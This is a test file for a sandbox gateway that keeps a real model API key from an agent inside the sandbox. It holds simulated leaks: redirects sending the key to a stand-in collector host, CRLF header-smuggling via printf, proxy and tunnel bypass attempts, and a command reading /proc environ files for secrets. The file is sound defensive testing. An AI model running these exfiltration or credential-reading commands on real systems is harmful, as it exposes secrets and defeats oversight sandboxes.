import type http from "node:http";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { listSpellings } from "../../src/domain/secrets/spellings.ts";
import { openSandboxed, type Sandboxed } from "../support/egress/sandboxed.ts";
import { ASK, REAL_KEY } from "../support/model/broker-bench.ts";

/** What leads a client back out: a host that is allowed, so that only the gateway's own doing keeps the key from it. */
const OUTSIDE = "collector.example.com";
const MARK = "ANSWER-FROM-OUTSIDE";

let world: Sandboxed;

beforeAll(async () => {
  // The model's own address is allowed by name, too: that must open nothing beside the broker.
  world = await openSandboxed({ allow: `${OUTSIDE}\n127.0.0.1:MODEL_PORT` });
  world.upstream.script = { body: `${MARK}\n` };
});

afterAll(() => world?.[Symbol.asyncDispose]());

beforeEach(() => {
  world.model.answer = (_request, response) => void response.end(`{"mark":"${MARK}"}`);
});

const OWN = '-H "x-api-key: $KEY"';

/** An agent's request of the model with these arguments of curl, its answer with all header lines. */
const ask = (args: string, path = "/v1/messages"): string =>
  `curl -sS -i --max-time 6 -H 'content-type: application/json' -d '${JSON.stringify(ASK)}' ${args} "$MODEL${path}"`;

function carriesKey(text: string): boolean {
  return listSpellings(REAL_KEY).some(({ bytes: form }) => text.toLowerCase().includes(form.toString("latin1").toLowerCase().slice(4, 24)));
}

const key = (request: http.IncomingMessage): string => String(request.headers["x-api-key"]);
const redirect =
  (status: number, to: (request: http.IncomingMessage) => string): http.RequestListener =>
  (request, response) =>
    void response
      .writeHead(status, { location: to(request), refresh: `0; url=${to(request)}`, link: `<${to(request)}>` })
      .end(key(request));

interface Echo {
  readonly name: string;
  readonly answer: http.RequestListener;
  /** What the guest reads: the answer goes through, without the key, or a refusal. */
  readonly reads: RegExp;
}

const ECHOES: readonly Echo[] = [
  {
    name: "echoes every header in its body",
    answer: (request, response) => void response.end(JSON.stringify(request.headers)),
    reads: /"x-api-key":"[^"]*\*{16}/,
  },
  {
    name: "echoes every header as a header",
    answer: (request, response) => {
      for (const [name, value] of Object.entries(request.headers)) response.setHeader(`echo-${name}`, String(value));
      response.end("echoed");
    },
    reads: /^echo-user-agent: curl[\s\S]*echoed$/m,
  },
  {
    name: "shows an error page with the key in base64 and in hex",
    answer: (request, response) =>
      void response.writeHead(500).end(`page ${Buffer.from(key(request)).toString("base64")} ${Buffer.from(key(request)).toString("hex")}`),
    reads: /^HTTP\/1\.1 500 [\s\S]*page \*{16}/,
  },
  {
    name: "asks for the key by name",
    // Not 401: that would end the run, and every case here shares one.
    answer: (request, response) => void response.writeHead(400, { "www-authenticate": `Bearer realm="${key(request)}"` }).end("denied"),
    reads: /^HTTP\/1\.1 400 [\s\S]*denied$/,
  },
  ...[301, 302, 303, 307, 308].map((status) => ({
    name: `redirects with ${status} to a host that is allowed, the key in the address`,
    answer: redirect(status, (request) => `http://${OUTSIDE}/collect?key=${encodeURIComponent(key(request))}`),
    reads: /x-airlock-decision: upstream-redirect/,
  })),
  {
    name: "redirects to another path of its own",
    answer: redirect(307, () => "/v1/files"),
    reads: /x-airlock-decision: upstream-redirect/,
  },
  {
    name: "switches to another protocol",
    answer: (request) =>
      void request.socket.end(
        `HTTP/1.1 101 Switching Protocols\r\nupgrade: h2c\r\nconnection: upgrade\r\nx: ${key(request)}\r\n\r\n${key(request)}`,
      ),
    reads: /^HTTP\/1\.1 502 /,
  },
];

describe("I5: from inside the sandbox as root, the model's service gets the real key, and the guest no byte of it, when the service", () => {
  test.each(ECHOES)("$name", async ({ answer, reads }) => {
    world.model.answer = answer;
    const [asked, outside] = [world.model.keys.length, world.upstream.requests.length];
    // `-L` follows what is left of a redirect, with the header again.
    const output = await world.inside(ask(`${OWN} -L --location-trusted`));
    expect(output).toMatch(reads);
    expect(carriesKey(output)).toBe(false);
    expect(world.model.keys.slice(asked)).toEqual([REAL_KEY]);
    expect(world.upstream.requests.length).toBe(outside);
    expect(carriesKey(await world.readLog())).toBe(false);
  });
});

const proxied = '--noproxy "" -x http://127.0.0.1:3128';

const FOREIGN = [
  { name: "an own key in place of the surrogate", script: ask("-H 'x-api-key: sk-ant-api03-attacker'"), reason: "foreign-credential" },
  { name: "an own bearer token", script: ask("-H 'authorization: Bearer attacker'"), reason: "foreign-credential" },
  { name: "an own token beside the surrogate", script: ask(`${OWN} -H 'authorization: Bearer attacker'`), reason: "foreign-credential" },
  { name: "an own key in a second line", script: ask(`${OWN} -H 'x-api-key: sk-ant-api03-attacker'`), reason: "foreign-credential" },
  { name: "a cookie", script: ask(`${OWN} -b session=attacker`), reason: "foreign-credential" },
  { name: "an own key in the query", script: ask(OWN, "/v1/messages?key=attacker"), reason: "foreign-credential" },
  { name: "no credential", script: ask(""), reason: "missing-credential" },
  {
    name: "a header's second line behind the surrogate",
    script: ask(`-H "$(printf 'x-api-key: %s\\r\\nauthorization: Bearer attacker' "$KEY")"`),
    reason: "foreign-credential",
  },
  { name: "the Files API", script: ask(OWN, "/v1/files"), reason: "path-not-listed" },
  {
    name: "an own key past the broker, through the proxy",
    script: `curl -sS -i --max-time 6 ${proxied} -H 'x-api-key: sk-ant-api03-attacker' "http://127.0.0.1:$MODEL_PORT/v1/messages"`,
    reason: "brokered-host",
  },
  {
    name: "the surrogate past the broker, through the proxy",
    script: `curl -sS -i --max-time 6 ${proxied} ${OWN} "http://127.0.0.1:$MODEL_PORT/v1/messages"`,
    reason: "brokered-host",
  },
  {
    name: "an own key past the broker, through a tunnel",
    script: `curl -sS -i --max-time 6 -p ${proxied} -H 'x-api-key: sk-ant-api03-attacker' "http://127.0.0.1:$MODEL_PORT/v1/messages"`,
    reason: "brokered-host",
  },
];

test.each(FOREIGN)("I5: from inside the sandbox as root, $name does not reach the model's host", async ({ script, reason }) => {
  const asked = world.model.keys.length;
  const output = await world.inside(script);
  expect(output).toMatch(new RegExp(`^x-airlock-decision: ${reason}\\r?$`, "m"));
  expect(output).not.toContain(MARK);
  expect(world.model.keys.length).toBe(asked);
});

test("I5: from inside the sandbox as root, the surrogate takes the key's place at the broker, and nothing but itself elsewhere", async () => {
  expect(await world.inside(ask(OWN))).toContain(MARK);
  expect(world.model.keys.at(-1)).toBe(REAL_KEY);
  expect(await world.inside(`curl -sS --max-time 6 ${OWN} http://${OUTSIDE}/`)).toContain(MARK);
  const sent = world.upstream.requests.at(-1)?.headers.find(([name]) => name === "x-api-key");
  expect(sent?.[1]).toBe(world.tunnel.model?.surrogate.reveal());
  expect(carriesKey(await world.inside("env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null"))).toBe(false);
});
